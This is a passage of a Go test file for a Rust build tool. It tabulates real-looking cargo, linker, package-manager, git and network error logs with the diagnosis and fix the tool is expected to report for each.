package symptom

import (
	"slices"
	"strings"
	"testing"

	"lpipe/internal/dockerfile"
)

const (
	toolchain = dockerfile.StageToolchain
	fetch     = dockerfile.StageFetch
	deps      = dockerfile.StageDeps
	build     = dockerfile.StageBuild
	test      = dockerfile.StageTest
)

// script is what cargo prints of a build script that failed.
func script(pkg, stderr string) string {
	return "   Compiling " + pkg + " v0.9.1\nerror: failed to run custom build command for `" + pkg + " v0.9.1`\n\nCaused by:\n" +
		"  process didn't exit successfully: `/target/release/build/" + pkg + "-1f/build-script-build` (exit status: 101)\n  --- stderr\n  " +
		strings.ReplaceAll(stderr, "\n", "\n  ") + "\nwarning: build failed, waiting for other jobs to finish...\n"
}

// linking is what cargo prints of a linker that failed.
func linking(note string) string {
	return "   Compiling api v0.1.0 (/src)\nerror: linking with `cc` failed: exit status: 1\n  |\n  = note:  \"cc\" \"-m64\" \"/tmp/x/symbols.o\" \"-lpq\"\n" +
		"  = note: some arguments are omitted. use `--verbose` to show all linker arguments\n  = note: " +
		strings.ReplaceAll(note, "\n", "\n          ") + "\n          \n\nerror: could not compile `api` (bin \"api\") due to 1 previous error\n"
}

// cases are outputs of the tools, in their own words. what and fix are parts of what is said of them.
var cases = []struct{ name, stage, log, what, fix string }{
	{"full disk, rustc", build, "error: failed to write /target/x.rlib: No space left on device (os error 28)\n", "the disk is full", "lpipe cache prune"},
	{"full disk, quota", deps, script("zstd-sys", "cc: fatal error: error writing to /tmp/x.s: Disk quota exceeded"), "the disk is full", "lpipe cache prune"},
	{"full disk, apt", toolchain, "E: You don't have enough free space in /var/cache/apt/archives/.\n", "the disk is full", "lpipe cache prune"},
	{"full disk, ld", build, linking("collect2: fatal error: ld terminated with signal 7 [Bus error]\ncompilation terminated."), "could not be written", "lpipe cache prune"},
	{"killed, rustc", deps, "error: could not compile `aws-sdk-ec2` (lib)\n\nCaused by:\n  process didn't exit successfully: `rustc --crate-name x` (signal: 9, SIGKILL: kill)\n", "was killed", "more memory"},
	{"killed, ld", build, linking("collect2: fatal error: ld terminated with signal 9 [Killed]\ncompilation terminated."), "was killed", "more memory"},
	{"killed, g++", deps, script("librocksdb-sys", "c++: fatal error: Killed signal terminated program cc1plus\ncompilation terminated."), "was killed", "more memory"},
	{"killed, old g++", deps, script("grpcio-sys", "g++: internal compiler error: Killed (program cc1plus)"), "was killed", "more memory"},
	{"memory, rustc", deps, "memory allocation of 12582912 bytes failed\nerror: could not compile `x` (lib)\n", "too little memory", "CARGO_BUILD_JOBS"},
	{"memory, LLVM", build, "rustc-LLVM ERROR: out of memory\nAllocation failed\n", "too little memory", "CARGO_BUILD_JOBS"},
	{"memory, fork", deps, script("openssl-sys", "make: fork: Cannot allocate memory"), "too little memory", "CARGO_BUILD_JOBS"},
	{"files", build, "error: Too many open files (os error 24)\n", "too many files", "ulimit"},
	{"sqlx, no database", build, "error: error communicating with database: Connection refused (os error 111)\n --> src/main.rs:4:5\n", "sqlx", "cargo sqlx prepare"},
	{"sqlx, nothing", test, "error: set `DATABASE_URL` to use query macros online, or run `cargo sqlx prepare` to update the query cache\n", "sqlx", "SQLX_OFFLINE"},
	{"env!", build, "error: environment variable `API_URL` not defined at compile time\n --> src/main.rs:1:19\n", "API_URL", "set API_URL in [build.env]"},
	{"a variable of a build script", deps, script("api", "thread 'main' (7) panicked at build.rs:1:41:\ncalled `Result::unwrap()` on an `Err` value: NotPresent"), "misses a variable", "[build.env]"},
	{"include_str", build, "error: couldn't read `src/../schema.sql`: No such file or directory (os error 2)\n --> src/main.rs:1:17\n", "src/../schema.sql", ".lpipeignore"},

	{
		"wrapper, missing", deps,
		"error: could not execute process `sccache /usr/local/rustup/toolchains/1.90/bin/rustc -vV` (never executed)\n\nCaused by:\n  No such file or directory (os error 2)\n",
		"the compiler wrapper sccache cannot be started", "RUSTC_WRAPPER = \"\" in [build.env]",
	},
	{
		"wrapper, missing, while downloading", fetch,
		"error: failed to run `rustc` to learn about target-specific information\n\nCaused by:\n  could not execute process `sccache rustc - --crate-name ___ --print=file-names --crate-type bin` (never executed)\n",
		"the compiler wrapper sccache cannot be started", "rustc-wrapper",
	},
	{"wrapper, a script that is not executable", build, "error: could not execute process `/src/tools/wrap.sh rustc -vV` (never executed)\n\nCaused by:\n  Permission denied (os error 13)\n", "wrap.sh cannot be started", "RUSTC_WRAPPER"},
	{"wrapper, fails", deps, "error: process didn't exit successfully: `sccache /usr/local/bin/rustc -vV` (exit status: 2)\n--- stderr\nsccache: error: failed to execute compile\n", "the compiler wrapper sccache failed", "RUSTC_WRAPPER"},
	{"wrapper, its server", deps, "sccache: error: Server startup failed: cache storage failed to read: Unexpected (temporary)\nerror: could not compile `x` (lib)\n", "sccache failed", "RUSTC_WRAPPER"},
	{"another compiler", build, "error: could not execute process `rustc-fork -vV` (never executed)\n", "the compiler rustc-fork", "base"},
	{"no git", fetch, "error: failed to get `x` as a dependency\n\nCaused by:\n  could not execute process `git fetch --force https://x` (never executed)\n", "no git", "openssh-client"},
	{"a program of cargo's", build, "error: could not execute process `my-linker-driver --x` (never executed)\n", "my-linker-driver cannot be started", "packages"},

	{
		"build-std without sources", fetch,
		"error: \"/usr/local/rustup/toolchains/1.96.0-x86_64-unknown-linux-gnu/lib/rustlib/src/rust/library/Cargo.lock\" does not exist, unable to build with the standard library, try:\n        rustup component add rust-src\n",
		"the sources of the standard library are missing", "rust-src",
	},
	{
		"a value of cargo's configuration", deps,
		"error: error in /src/.cargo/config.toml: could not load config key `profile.release`\n\nCaused by:\n  error in /src/.cargo/config.toml: could not load config key `profile.release.opt-level`\n",
		"cargo does not take its configuration", ".cargo/config.toml",
	},

	{"linker", build, "error: linker `cc` not found\n  |\n  = note: No such file or directory (os error 2)\n\nerror: could not compile `api` (bin \"api\") due to 1 previous error\n", "the linker cc is missing", "gcc for cc"},
	{"linker for another machine", deps, "error: linker `aarch64-linux-gnu-gcc` not found\n", "the linker aarch64-linux-gnu-gcc", "packages"},
	{"mold", build, linking("collect2: fatal error: cannot find ‘ld’\ncompilation terminated."), "that a flag names", "mold"},
	{"mold with clang", build, linking("clang: error: invalid linker name in argument '-fuse-ld=mold'"), "that a flag names", "mold"},
	{"lld with an old gcc", build, linking("cc: error: unrecognized command-line option '-fuse-ld=mold'; did you mean '-fuse-ld=bfd'?"), "that a flag names", "mold"},
	{"crt1", build, linking("/usr/bin/ld: cannot find Scrt1.o: No such file or directory\n/usr/bin/ld: cannot find crti.o: No such file or directory"), "files for linking", "libc6-dev"},
	{"wrong machine", build, linking("/usr/bin/aarch64-linux-gnu-ld: /usr/lib/libx.a: error adding symbols: file in wrong format\ncollect2: error: ld returned 1 exit status"), "for another machine", "packages"},
	{"wrong machine, lld", build, linking("rust-lld: error: /usr/lib/libx.a(y.o) is incompatible with elf64-x86-64"), "for another machine", "packages"},
	{"libraries, GNU ld", build, linking("/usr/bin/ld: cannot find -lpq: No such file or directory\n/usr/bin/ld: cannot find -lssl\ncollect2: error: ld returned 1 exit status"), "missing: pq, ssl", "bundled"},
	{"library of C++", build, linking("/usr/bin/ld: cannot find -lstdc++: No such file or directory"), "library of C++", "Alpine"},
	{"library, lld", build, linking("rust-lld: error: unable to find library -lpq\ncollect2: error: ld returned 1 exit status"), "missing: pq", "libNAME-dev"},
	{"library, mold", build, linking("mold: fatal: library not found: pq"), "missing: pq", "libNAME-dev"},
	{"library, rustc", build, "error: could not find native static library `pq`, perhaps an -L flag is missing?\n", "missing: pq", "vendored"},
	{"not position independent", build, linking("/usr/bin/ld: x.o: relocation R_X86_64_32 against `.rodata' can not be used when making a PIE object; recompile with -fPIE"), "cannot be part", "CFLAGS"},
	{"functions, GNU ld", build, linking("/usr/bin/ld: x.o: in function `main':\nb.c:(.text+0xa): undefined reference to `SSL_new'\ncollect2: error: ld returned 1 exit status"), "SSL_new", "vendored"},
	{"functions, lld", build, linking("rust-lld: error: undefined symbol: SSL_new\n>>> referenced by x.o"), "SSL_new", "vendored"},
	{"std", build, "error[E0463]: can't find crate for `std`\n  |\n  = note: the `wasm32-unknown-unknown` target may not be installed\n", "wasm32-unknown-unknown", "targets"},

	{"rustc too old", deps, "error: rustc 1.81.0 is not supported by the following packages:\n  home@0.5.12 requires rustc 1.88\n", "too old", "channel"},
	{"rustc too old, one", deps, "error: rustc 1.95.0 is not supported by the following package:\n  q@0.1.0 requires rustc 1.999\n", "too old", "channel"},
	{"rustc too old, old cargo", deps, "error: package `clap v4.5.0` cannot be built because it requires rustc 1.74 or newer, while the currently active rustc version is 1.70.0\n", "too old", "channel"},
	{"edition", fetch, "error: failed to parse manifest at `/downloads/x/Cargo.toml`\n\nCaused by:\n  feature `edition2024` is required\n\n  The package requires the Cargo feature called `edition2024`\n", "too old", "channel"},
	{"a setting of nightly", fetch, "error: failed to parse manifest at `/src/Cargo.toml`\n\nCaused by:\n  feature `codegen-backend` is required\n\n  The package requires the Cargo feature called `codegen-backend`, but that feature is not stabilized in this version of Cargo (1.96.0 (30a34c682 2026-05-25)).\n  Consider trying a newer version of Cargo (this may require the nightly release).\n", "nightly", "nightly-"},
	{"a setting of nightly, asked for", fetch, "error: failed to parse manifest at `/src/Cargo.toml`\n\nCaused by:\n  the cargo feature `codegen-backend` requires a nightly version of Cargo, but this is the `stable` channel\n", "nightly", "nightly-"},
	{"lock file", fetch, "error: failed to parse lock file at: /src/Cargo.lock\n\nCaused by:\n  lock file version `4` was found, but this version of Cargo does not understand this lock file, perhaps Cargo needs to be updated?\n", "too old", "channel"},
	{"lock file, 1.77", fetch, "error: failed to parse lock file at: /src/Cargo.lock\n\nCaused by:\n  lock file version 4 requires `-Znext-lockfile-bump`\n", "too old", "channel"},
	{"a newer edition", build, "error: failed to parse manifest\n\nCaused by:\n  this version of Cargo is older than the `2027` edition, and only supports `2015`, `2018`, `2021`, and `2024` editions.\n", "too old", "channel"},
	{"nightly, code", deps, "error[E0554]: `#![feature]` may not be used on the stable release channel\n --> lib.rs:1:1\n", "nightly", "nightly-YYYY"},
	{"nightly, flag", build, "error: failed to run `rustc` to learn about target-specific information\n\nCaused by:\n  --- stderr\n  error: the option `Z` is only accepted on the nightly compiler\n", "nightly", "nightly-YYYY"},
	{"unstable", deps, "error[E0658]: use of unstable library feature `lazy_get`\n --> lib.rs:1:1\n", "does not have yet", "channel"},
	{"a tool for a newer libc", deps, script("api", "/src/tools/gen: /lib/x86_64-linux-gnu/libc.so.6: version `GLIBC_2.38' not found (required by /src/tools/gen)"), "newer C library", "base"},
	{"a tool's library", deps, script("api", "/src/tools/gen: error while loading shared libraries: libz.so.1: cannot open shared object file: No such file or directory"), "shared library", "packages"},
	{"a feature of lpipe.toml", build, "error: none of the selected packages contains this feature: tls\nselected packages: api\n", "a feature does not exist", "features in [build]"},
	{"a feature of lpipe.toml, new", build, "error: the package 'api' does not contain this feature: tls\n", "a feature does not exist", "features in [build]"},
	{"a profile", build, "error: profile `fast` is not defined\n", "the profile fast", "[profile.fast]"},
	{"processor", build, "'foo' is not a recognized processor for this target (ignoring processor)\nrustc-LLVM ERROR: 64-bit code requested on a subtarget that doesn't support it!\n", "a processor", "rustflags"},
	{"instructions", deps, "error: failed to run custom build command for `ring v0.17.8`\n\nCaused by:\n  process didn't exit successfully: `/target/x` (signal: 4, SIGILL: illegal instruction)\n", "instructions", "target-cpu"},
	{"stack of rustc", build, "thread 'rustc' has overflowed its stack\nfatal runtime error: stack overflow\n", "crashed", "RUST_MIN_STACK"},
	{"segmentation fault", build, "error: could not compile `x`\n\nCaused by:\n  process didn't exit successfully: `rustc` (signal: 11, SIGSEGV: invalid memory reference)\n", "crashed", "RUST_MIN_STACK"},
	{"flag of rustc", build, "error: failed to run `rustc` to learn about target-specific information\n\nCaused by:\n  process didn't exit successfully: `rustc - --crate-name ___` (exit status: 1)\n  --- stderr\n  error: unknown codegen option: `opt-levl`\n", "does not know a flag", "rustflags"},
	{"value of a flag of rustc", build, "error: incorrect value `9` for codegen option `relro-level` - one of: `full`, `partial`, or `off` was expected\n", "does not know a flag", "rustflags"},
	{"lld with clang", build, linking("clang: error: unable to execute command: Executable \"ld.lld\" doesn't exist!\nclang: error: linker command failed with exit code 1"), "that a flag names", "lld"},
	{"no C++ compiler, cmake", deps, script("x-sys", "CMake Error: CMAKE_CXX_COMPILER not set, after EnableLanguage"), "C++", "g++"},
	{"no address, wget", deps, script("x-sys", "wget: unable to resolve host address ‘example.com’"), "wants to download", "network"},
	{"a revision that is gone", fetch, "error: failed to get `x` as a dependency of package `a v0.1.0 (/src)`\n\nCaused by:\n  revision 0123abcd not found\n", "does not have the branch", "rev"},
	{"single sign-on", fetch, "ERROR: The `acme' organization has enabled or enforced SAML SSO.\nTo access this repository, you must use the HTTPS remote with a personal access token.\nfatal: Could not read from remote repository.\n", "single sign-on", "deploy-keys"},
	{"a registry with logins", fetch, "error: authenticated registries require a credential-provider to be configured\nsee https://doc.rust-lang.org/cargo/reference/registry-authentication.html for details\n", "asks for a token", "CARGO_REGISTRIES_NAME_TOKEN"},
	{"no C compiler, cmake", deps, script("aws-lc-sys", "CMake Error: CMAKE_C_COMPILER not set, after EnableLanguage"), "the C compiler is missing", "gcc"},
	{"no C compiler, configure", deps, script("jemalloc-sys", "configure: error: in `/target/x':\nconfigure: error: no acceptable C compiler found in $PATH"), "the C compiler is missing", "gcc"},
	{"a library that cmake looks for", deps, script("rdkafka-sys", "-- Could NOT find Doxygen (missing: DOXYGEN_EXECUTABLE)\nCMake Error at /usr/share/cmake/Modules/FindPackageHandleStandardArgs.cmake:230 (message):\n  Could NOT find ZLIB (missing: ZLIB_LIBRARY ZLIB_INCLUDE_DIR)"), "needs: ZLIB", "bundled"},
	{"a library that is too old", deps, script("libxml", "Requested 'libxml-2.0 >= 2.12' but version of libxml-2.0 is 2.9.14"), "needs: libxml-2.0", "newer distribution"},
	{"a library that is too old, pkgconf", deps, script("libxml", "Package dependency requirement 'libxml-2.0 >= 2.12' could not be satisfied.\nPackage 'libxml-2.0' has version '2.9.14', required version is '>= 2.12'"), "needs: libxml-2.0", "newer distribution"},
	{"a program of aws-lc", deps, script("aws-lc-fips-sys", "Missing dependency: Go"), "a program is missing", "packages"},
	{"mirror of apt", toolchain, "E: Failed to fetch http://deb.debian.org/x.deb  Hash Sum mismatch\n", "not what the lists say", "again later"},
	{"no network, apk", toolchain, "WARNING: fetching https://dl-cdn.alpinelinux.org/alpine/v3.22/main: temporary error (try again later)\nERROR: unable to select packages:\n  curl (no such package):\n", "was not reached", "run the command again"},
	{"base for another machine", toolchain, "exec /bin/sh: exec format error\n", "another machine", "base"},
	{"ICE", build, "error: the compiler unexpectedly panicked. this is a bug.\n", "a fault", "channel"},

	{"registry", fetch, "error: failed to parse manifest at `/src/Cargo.toml`\n\nCaused by:\n  registry index was not found in any configuration: `corp`\n", "where a registry is", "CARGO_REGISTRIES_CORP_INDEX"},
	{"token", fetch, "error: no token found for `acme`, please run `cargo login --registry acme`\nor use environment variable CARGO_REGISTRIES_ACME_TOKEN\n", "a token", "CARGO_REGISTRIES_ACME_TOKEN"},
	{"token, no name", fetch, "error: no token found, please run `cargo login`\n", "a token", "CARGO_REGISTRIES_NAME_TOKEN"},
	{"stale lock", fetch, "error: cannot update the lock file /src/Cargo.lock because --locked was passed to prevent this\nhelp: to generate the lock file\n", "does not fit", "cargo update --workspace"},
	{"stale lock, old", build, "error: the lock file /src/Cargo.lock needs to be updated but --frozen was passed to prevent this\n", "does not fit", "cargo update --workspace"},
	{"broken lock", fetch, "error: failed to parse lock file at: /src/Cargo.lock\n\nCaused by:\n  package `x` is specified twice in the lockfile\n", "does not hold", "cargo update"},
	{"checksum of the lock", fetch, "error: checksum for `x v1.0.0` changed between lock files\n", "does not hold", "Cargo.lock"},
	{"checksum", fetch, "error: failed to verify the checksum of `x v1.0.0`\n", "not the one of Cargo.lock", "cargo vendor"},
	{"checksum, vendored", deps, "error: the listed checksum of `/src/vendor/x/src/lib.rs` has changed:\nexpected: a\nactual:   b\n", "not the one of Cargo.lock", "cargo vendor"},
	{"feature", fetch, "error: failed to select a version for `p`.\n    ... required by package `q v0.1.0`\nversions that meet the requirements `*` are: 0.1.0\n\npackage `q` depends on `p` with feature `nofeat` but `p` does not have that feature.\n", "a feature", "feature in Cargo.toml"},
	{"feature, old", fetch, "error: failed to select a version for `p`.\n\nthe package `q` depends on `p`, with features: `nofeat` but `p` does not have these features.\n", "a feature", "feature in Cargo.toml"},
	{"crate", fetch, "error: no matching package named `nope-x` found\nlocation searched: crates.io index\nrequired by package `q v0.1.0`\n", "does not exist", "Cargo.toml"},
	{"version", fetch, "error: failed to select a version for the requirement `egui = \"^0.18\"`\ncandidate versions found which didn't match: 0.17.0\n", "no version", "cargo update"},
	{"no manifest", deps, "error: failed to get `x` as a dependency of package `q`\n\nCaused by:\n  failed to load source for dependency `x`\n\nCaused by:\n  failed to read `/src/x/Cargo.toml`\n", "no manifest", "path or git"},
	{"download while compiling", deps, "error: failed to download `x v1.0.0`\n\nCaused by:\n  attempting to make an HTTP request, but --frozen was specified\n", "downloaded while compiling", "cargo update"},

	{"branch", fetch, "fatal: couldn't find remote ref refs/heads/other\nerror: failed to get `x` as a dependency\n", "branch, tag or commit", "cargo update"},
	{"branch, cargo", fetch, "Caused by:\n  failed to find branch `other`\n\nCaused by:\n  cannot locate remote-tracking branch 'origin/other'; class=Reference (4); code=NotFound (-3)\n", "branch, tag or commit", "cargo update"},
	{"commit", fetch, "Caused by:\n  revspec '0123456789012345678901234567890123456789' not found; class=Reference (4); code=NotFound (-3)\n", "branch, tag or commit", "cargo update"},
	{"commit, server", fetch, "fatal: remote error: upload-pack: not our ref 0123456789012345678901234567890123456789\n", "branch, tag or commit", "cargo update"},
	{"package of a repository", fetch, "Caused by:\n  could not find `Cargo.toml` in `/downloads/git/checkouts/r-963edb2e451c4b61/232268d`\n", "no package", "package of the dependency"},
	{"ownership", deps, script("vergen", "fatal: detected dubious ownership in repository at '/src'"), "does not trust", "safe.directory"},
	{"no history", deps, script("api", "fatal: not a git repository (or any of the parent directories): .git"), "looks for the git repository", "[build.late-env]"},
	{"no ssh", fetch, "error: cannot run ssh: No such file or directory\nfatal: unable to fork\n", "no ssh", "openssh-client"},
	{"no git for a script", deps, script("api", "sh: 1: git: not found"), "no git", "packages"},

	{"alias", fetch, "ssh: Could not resolve hostname work: Name or service not known\nfatal: Could not read from remote repository.\n", "has no address", "real host"},
	{"old server", fetch, "Unable to negotiate with 10.0.1.1 port 22: no matching host key type found. Their offer: ssh-rsa,ssh-dss\nfatal: Could not read from remote repository.\n", "no method in common", "https"},
	{"keys", fetch, "Received disconnect from 1.2.3.4 port 22:2: Too many authentication failures\n", "ended the login", "deploy-keys"},
	{"agent", fetch, "sign_and_send_pubkey: signing failed for ED25519 \"x\" from agent: agent refused operation\ngit@github.com: Permission denied (publickey).\n", "did not sign", "[ssh]"},
	{"host key", fetch, "Host key verification failed.\nfatal: Could not read from remote repository.\n", "host key", "hostkeys verify"},
	{"publickey", fetch, "git@github.com: Permission denied (publickey).\n", "nobody in", "[ssh]"},
	{"publickey, libgit2", fetch, "Caused by:\n  failed to authenticate when downloading repository\n\n  * attempted ssh-agent authentication, but no usernames succeeded: `git`\n", "nobody in", "[ssh]"},
	{"port 22", fetch, "ssh: connect to host github.com port 22: Connection timed out\n", "over SSH", "port 443"},
	{"https login", fetch, "fatal: could not read Username for 'https://github.com': terminal prompts disabled\n", "asks for a login", "[git] tokens"},
	{"https login, GitLab", fetch, "remote: HTTP Basic: Access denied. The provided password or token is incorrect\nfatal: Authentication failed for 'https://gitlab.com/x/y.git/'\n", "asks for a login", "[git] tokens"},
	{"repository", fetch, "remote: Repository not found.\nfatal: repository 'https://github.com/x/y/' not found\n", "does not show", "may read it"},

	{"certificate, cargo", fetch, "Caused by:\n  [60] SSL peer certificate or SSH remote key was not OK (SSL certificate problem: self-signed certificate in certificate chain)\n", "not trusted", "ca in [network]"},
	{"certificate, apk", toolchain, "WARNING: fetching https://dl-cdn.alpinelinux.org/alpine/v3.20/main: TLS: server certificate not trusted\n", "not trusted", "ca in [network]"},
	{"certificate, a build script", deps, script("ort-sys", "error sending request for url (https://x): invalid peer certificate: UnknownIssuer"), "not trusted", "ca in [network]"},
	{"no certificates", toolchain, "curl: (77) error setting certificate verify locations:  CAfile: /etc/ssl/certs/ca-certificates.crt\n", "no certificates", "ca-certificates"},
	{"proxy login", toolchain, "E: Failed to fetch http://deb.debian.org/x  407  Proxy Authentication Required\n", "asks for a login", "HTTPS_PROXY"},
	{"proxy", fetch, "fatal: unable to access 'https://github.com/x/': CONNECT tunnel failed, response 403\n", "proxy cannot be used", "[network]"},
	{"no network for a script", deps, script("ort-sys", "curl: (6) Temporary failure in name resolution"), "wants to download", "network = \"default\""},
	{"no network for Rust", build, script("api", "error trying to connect: dns error: failed to lookup address information: Temporary failure in name resolution"), "wants to download", "network = \"default\""},
	{"DNS, cargo", fetch, "Caused by:\n  [6] Could not resolve host: index.crates.io\n", "no address", "engine's machine"},
	{"DNS, apt, before what it leads to", toolchain, "Err:1 http://deb.debian.org/debian bookworm InRelease\n  Temporary failure resolving 'deb.debian.org'\nE: Unable to locate package libpq-dev\n", "no address", "engine's machine"},
	{"DNS, apk", toolchain, "WARNING: fetching https://dl-cdn.alpinelinux.org/alpine: DNS: transient error (try again later)\nERROR: unable to select packages:\n  libpq-dev (no such package):\n", "no address", "engine's machine"},
	{"DNS, dnf", toolchain, "Error: Failed to download metadata for repo 'x': Curl error (6): Couldn't resolve host name for https://cdn\n", "no address", "engine's machine"},
	{"forbidden", fetch, "Caused by:\n  failed to get successful HTTP response from `https://crates.corp/x` (10.0.0.1), got 403\n", "refuses", "CARGO_REGISTRIES_NAME_TOKEN"},
	{"not there", fetch, "Caused by:\n  failed to get successful HTTP response from `https://crates.corp/config.json`, got 404\n", "does not have what", "[registries]"},
	{"cut off", fetch, "error: RPC failed; curl 92 HTTP/2 stream 5 was not closed cleanly: CANCEL (err 8)\nfatal: early EOF\n", "not reached", "again"},
	{"busy", fetch, "Caused by:\n  failed to get successful HTTP response from `https://index.crates.io/x`, got 503\nbody:\n", "cannot answer now", "again"},
	{"connection of a script", deps, script("ort-sys", "curl: (7) Failed to connect to github.com port 443: Network is unreachable"), "wants to download", "network = \"default\""},
	{"connection", fetch, "Caused by:\n  [28] Timeout was reached (Operation too slow. Less than 10 bytes/sec transferred the last 30 seconds)\n", "not reached", "again"},
	{"connection, apt", toolchain, "W: Failed to fetch http://deb.debian.org/x  Could not connect to deb.debian.org:80 (1.2.3.4), connection timed out\nE: Unable to locate package x\n", "not reached", "engine's machine"},

	{"channel", toolchain, "error: could not download nonexistent rust version `1.999-x86_64-unknown-linux-gnu`: file not found\n", "rust-toolchain.toml", "channel"},
	{"channel, by the server's answer", toolchain, "error: could not download nonexistent rust version `9.99-x86_64-unknown-linux-gnu`: could not download file from 'https://static.rust-lang.org/dist/rust-9.99-x86_64-unknown-linux-gnu.tar.gz.sha256' to '/usr/local/rustup/tmp/x_file': http request returned an unsuccessful status code: 404\n", "rust-toolchain.toml", "channel"},
	{"component", toolchain, "error: component 'foo' for target 'x86_64-unknown-linux-gnu' is unavailable for download for channel '1.96'\n", "rust-toolchain.toml", "components"},
	{"toolchain of a script", deps, script("api", "error: toolchain 'nightly-x86_64-unknown-linux-gnu' is not installed"), "toolchain is not there", "channel"},
	{"no toolchain", toolchain, "error: rustup could not choose a version of cargo to run, because one wasn't specified explicitly, and no default is configured.\n", "toolchain is not there", "channel"},
	{"rustfmt", deps, script("tonic", "error: 'rustfmt' is not installed for the toolchain '1.90-x86_64-unknown-linux-gnu'."), "component", "components"},

	{"clock", toolchain, "E: Release file for http://deb.debian.org/debian/dists/bookworm/InRelease is not valid yet (invalid for another 3h)\n", "do not hold now", "clock"},
	{"archived", toolchain, "E: The repository 'http://deb.debian.org/debian buster Release' does not have a Release file.\n", "no longer there", "newer image"},
	{"archived file", toolchain, "E: Failed to fetch http://deb.debian.org/x.deb  404  Not Found [IP: 1.2.3.4 80]\n", "no longer there", "newer image"},
	{"signature", toolchain, "W: GPG error: http://x InRelease: The following signatures couldn't be verified because the public key is not available: NO_PUBKEY 0E98404D386FA1D9\n", "not signed", "newer image"},
	{"apt, two packages", toolchain, "E: Unable to locate package libpq-devel\nE: Unable to locate package nope\n", "libpq-devel, nope", "packages in [build]"},
	{"apt, no candidate", toolchain, "E: Package 'libssl1.0-dev' has no installation candidate\n", "libssl1.0-dev", "packages in [build]"},
	{"apk", toolchain, "ERROR: unable to select packages:\n  libpq-devel (no such package):\n    required by: world[libpq-devel]\n", "libpq-devel", "packages in [build]"},
	{"dnf", toolchain, "No match for argument: libpq-dev\nError: Unable to find a match: libpq-dev\n", "libpq-dev", "packages in [build]"},
	{"microdnf", toolchain, "error: No package matches 'libpq-dev'\n", "libpq-dev", "packages in [build]"},
	{"apt, version", toolchain, "E: Version '1.2.3' for 'libpq-dev' was not found\n", "libpq-dev", "version of libpq-dev"},
	{"apt, conflict", toolchain, "The following packages have unmet dependencies:\n a : Depends: b\nE: Unable to correct problems, you have held broken packages.\n", "together", "packages in [build]"},

	{
		"pkg-config for musl, before OpenSSL", deps,
		script("openssl-sys", "Could not find directory of OpenSSL installation, and this `-sys` crate cannot\nproceed without this knowledge.\n\npkg-config has not been configured to support cross-compilation."),
		"for musl", "link = \"dynamic\"",
	},
	{"C compiler for musl", deps, script("zstd-sys", "error occurred in cc-rs: failed to find tool \"x86_64-linux-musl-gcc\": No such file or directory (os error 2)"), "no C compiler for musl", "Alpine"},
	{"C compiler for musl, old cc", deps, script("ring", "error occurred: Failed to find tool. Is `musl-gcc` installed?"), "no C compiler for musl", "Alpine"},
	{"C compiler for musl, ring", deps, script("ring", "error occurred: Failed to find tool. Is `aarch64-linux-musl-gcc` installed?"), "no C compiler for musl", "Alpine"},
	{"no pkg-config", deps, script("libudev-sys", "Could not run `PKG_CONFIG_ALLOW_SYSTEM_CFLAGS=1 pkg-config --libs --cflags libudev`\nThe pkg-config command could not be found."), "pkg-config is missing", "pkg-config"},
	{"OpenSSL", deps, script("openssl-sys", "Could not find directory of OpenSSL installation, and this `-sys` crate cannot\nproceed without this knowledge."), "OpenSSL", "rustls"},
	{"OpenSSL's headers", deps, script("x", "a.c:1:10: fatal error: openssl/ssl.h: No such file or directory"), "OpenSSL", "libssl-dev"},
	{
		"pkg-config", deps,
		script("libudev-sys", "thread 'main' panicked at build.rs:38:41:\ncalled `Result::unwrap()` on an `Err` value: \"\\npkg-config exited with status code 1\\n> pkg-config --libs --cflags libudev\\n\\nThe system library `libudev` required by crate `libudev-sys` was not found.\\n"),
		"a C library is missing", "libNAME-dev",
	},
	{"pkg-config itself", deps, script("x", "Package libudev was not found in the pkg-config search path."), "a C library is missing", "libNAME-dev"},
	{"protoc", deps, script("api", "Error: Custom { kind: NotFound, error: \"Could not find `protoc`. If `protoc` is installed, try setting the `PROTOC` environment variable\" }"), "protoc is missing", "protobuf-compiler"},
	{"google's types", build, script("api", "Error: Custom { kind: Other, error: \"protoc failed: google/protobuf/timestamp.proto: File not found.\\n\" }"), "its own types", "libprotobuf-dev"},
	{"a proto file", build, script("api", "Error: Custom { kind: Other, error: \"protoc failed: api/v1/x.proto: File not found.\\n\" }"), ".proto file", "../proto"},
	{"libclang", deps, script("x-sys", "Unable to find libclang: \"couldn't find any valid shared libraries matching: ['libclang.so', 'libclang-*.so'], set the `LIBCLANG_PATH` environment variable"), "libclang", "libclang-dev"},
	{"clang's headers", deps, script("x-sys", "/usr/include/stdio.h:33:10: fatal error: 'stddef.h' file not found"), "clang's own headers", "clang"},
	{"C++", deps, script("x-sys", "cc: fatal error: cannot execute 'cc1plus': execvp: No such file or directory"), "C++", "g++"},
	{"C++ for cmake", deps, script("x-sys", "CMake Error at CMakeLists.txt:3 (project):\n  No CMAKE_CXX_COMPILER could be found."), "C++", "g++"},
	{"cmake", deps, script("libz-ng-sys", "failed to execute command: No such file or directory (os error 2)\nis `cmake` not installed?"), "cmake is missing", "cmake"},
	{"cmake, aws-lc", deps, script("aws-lc-sys", "Missing dependency: cmake"), "cmake is missing", "cmake"},
	{"cmake, too new", deps, script("x-sys", "CMake Error at CMakeLists.txt:1 (cmake_minimum_required):\n  Compatibility with CMake < 3.5 has been removed from CMake."), "too new", "CMAKE_POLICY_VERSION_MINIMUM"},
	{"cmake, too old", deps, script("x-sys", "CMake 3.20 or higher is required.  You are running version 3.13.4"), "too old", "newer distribution"},
	{"make", deps, script("x-sys", "CMake Error: CMake was unable to find a build program corresponding to \"Unix Makefiles\"."), "make is missing", "make"},
	{"perl's modules", deps, script("openssl-sys", "Can't locate FindBin.pm in @INC (you may need to install the FindBin module)"), "perl", "perl-core"},
	{"nasm", deps, script("rav1e", "error occurred: Failed to find tool. Is `nasm` installed?\nNASM command not found or failed to execute."), "nasm", "nasm"},
	{"flatc", deps, script("api", "sh: 1: flatc: not found"), "a program is missing", "packages"},
	{"C compiler", deps, script("ring", "error occurred in cc-rs: failed to find tool \"cc\": No such file or directory (os error 2)"), "the C compiler is missing", "packages"},
	{"autoreconf", deps, script("x-sys", "failed to execute command: No such file or directory (os error 2)\nis `autoreconf` not installed?"), "a program is missing", "packages"},
	{"python", deps, script("x-sys", "/usr/bin/env: ‘python3’: No such file or directory"), "a program is missing", "packages"},
	{"a header", deps, script("x-sys", "wrapper.h:1:10: fatal error: 'sodium.h' file not found"), "a C header", "libNAME-dev"},
	{
		"a header, as the warning of cc", deps,
		"warning: x-sys@0.9.1: a.c:1:10: fatal error: sodium.h: No such file or directory\n" + script("x-sys", "error occurred in cc-rs: command did not execute successfully (status code exit status: 1)"),
		"a C header", "libNAME-dev",
	},
